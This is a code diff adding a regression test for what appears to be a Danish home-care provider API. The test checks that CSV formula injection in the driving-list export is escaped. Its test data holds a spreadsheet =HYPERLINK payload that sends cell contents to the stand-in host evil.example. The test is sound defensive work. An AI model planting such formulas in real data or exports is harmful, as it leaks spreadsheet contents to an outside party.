@@ -220,3 +220,22 @@ def test_register_lists_several_active_providers(
     r = c.get("/leverandoerer?kategori=praktisk&dato=2026-11-01", headers=borger)
     assert r.status_code == 200 and len(r.json()) >= 2
     assert {p["type"] for p in r.json()} <= {"kommunal", "privat", "selvejende"}
+
+
+def test_a_formula_in_an_indsats_name_reaches_the_csv_as_text(
+    client: tuple[TestClient, ProviderApplication],
+) -> None:
+    """Regression: an indsats_navn of =HYPERLINK(...) from the grant reached koereliste.csv
+    as a formula cell, which a spreadsheet would run when the list is opened."""
+    c, app = client
+    h = headers_for("leverandoer", "planner-lis", leverandoer_id=LEV)
+    formel = '=HYPERLINK("https://evil.example/?d="&A1,"Bad")'
+    event = afgoerelse(uuid.uuid4(), "personlig", 1, "dag")
+    event.data["bevillinger"][0]["indsats_navn"] = formel
+    apply(app, event)
+    r = c.get(f"/leverandoerer/{LEV}/koereliste.csv?dato=2026-11-03", headers=h)
+    assert r.status_code == 200, r.text
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert rows and all(x["indsats_navn"] == "'" + formel for x in rows)
+    assert all(x["minutter"] == "30" for x in rows)  # numbers stay numbers
+    assert "\n=" not in r.text and ",=" not in r.text
